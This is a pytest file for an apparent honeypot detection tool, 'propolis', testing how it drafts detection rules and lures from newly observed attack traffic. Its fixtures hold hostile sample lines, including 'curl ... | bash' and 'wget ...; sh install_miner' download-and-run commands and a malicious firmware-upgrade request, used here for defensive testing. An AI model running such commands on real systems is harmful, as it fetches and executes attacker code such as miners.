from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from propolis.detection.novelty.draft import CONFIDENCE, DraftError, common, draft_lure, draft_rule
from propolis.detection.novelty.novel import Novel
from propolis.detection.rules.load import parse
from propolis.errors import PropolisError
from propolis.flaws.check import check
from propolis.flaws.file import parse as parse_lure

REQUESTS = tuple(
    b"POST /cgi-bin/zyx.cgi?session=%d HTTP/1.1\r\nHost: 203.0.113.77\r\nUser-Agent: bot/%d\r\nX-Zyx: on\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60\r\n\r\n"
    b"action=upgrade&url=http://198.51.100.%d/fw.bin&verify=never" % (number * 977, number, number)
    for number in range(1, 4)
)


def novel(*examples: bytes, what: str = "request") -> Novel:
    shown = {"id": "0123456789ab", "what": what, "template": "post / cgi - bin / zyx", "examples": examples}
    counts = dict.fromkeys(("sources", "events", "texts", "first_seen", "last_seen"), 3)
    return msgspec.convert(
        {
            **shown,
            **counts,
            "score": 1.0,
            "surprise": 1.0,
            "recent": 1.0,
            "known": 0.0,
            "sensors": [],
            "ports": [80],
        },
        Novel,
    )


def test_what_varies_is_in_no_condition() -> None:
    pieces = common(
        [b"wget http://198.51.100.7/a; sh install_miner", b"wget http://203.0.113.9/a; sh install_miner"]
    )
    assert pieces[0] == b"/a; sh install_miner"
    assert not any(b"198" in piece for piece in pieces)


def test_a_rule_of_requests_holds_its_own_tests_and_tells_no_address() -> None:
    text = draft_rule(novel(*REQUESTS))
    rule = parse(text.encode(), Path("novel-0123456789ab.yaml"))
    assert (rule.id, rule.grade, rule.confidence) == ("novel-0123456789ab", "attempt", CONFIDENCE)
    assert "203.0.113.77" not in text
    assert "/cgi-bin/zyx.cgi" in text


def test_a_lure_of_requests_holds_its_own_tests() -> None:
    text = draft_lure(novel(*REQUESTS))
    flaw = parse_lure(text, "novel-0123456789ab.yaml")
    assert check(flaw, text) == ()
    assert flaw.steps[0].match["path"] == "/cgi-bin/zyx.cgi"
    assert flaw.steps[0].match["method"] == "POST"
    assert "203.0.113.77" not in text


@pytest.mark.parametrize(
    ("what", "examples"),
    [
        (
            "command",
            [b"cd /tmp; curl -s http://198.51.100.%d/k.sh | bash -s stealth" % number for number in range(3)],
        ),
        ("payload", [b"\x03\x00\x00\x2a\xe0mstshash=operator\r\n%d" % number for number in range(3)]),
    ],
)
def test_a_rule_of_other_texts(what: str, examples: list[bytes]) -> None:
    rule = parse(draft_rule(novel(*examples, what=what)).encode(), Path("novel-0123456789ab.yaml"))
    assert rule.kinds == ({"command": "CommandRun", "payload": "PayloadReceived"}[what],)
    with pytest.raises(DraftError, match="draft a rule"):
        draft_lure(novel(*examples, what=what))


@pytest.mark.parametrize(
    "examples", [(b"GET / HTTP/1.1\r\n\r\n",), (b"GET /abc HTTP/1.1\r\n\r\n", b"GET /xyz HTTP/1.1\r\n\r\n")]
)
def test_what_everybody_sends_makes_no_draft(examples: tuple[bytes, ...]) -> None:
    for make in (draft_rule, draft_lure):
        with pytest.raises(DraftError, match="common"):
            make(novel(*examples))


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.binary(min_size=1, max_size=120), min_size=1, max_size=4),
    st.sampled_from(["request", "command", "payload"]),
)
def test_any_examples_make_a_good_file_or_an_error(examples: list[bytes], what: str) -> None:
    for make in (draft_rule, draft_lure):
        try:
            text = make(novel(*(b"POST /console/%s HTTP/1.1\r\n\r\n" % one for one in examples), what=what))
        except PropolisError:
            continue
        assert text.startswith(("title: ", "id: "))
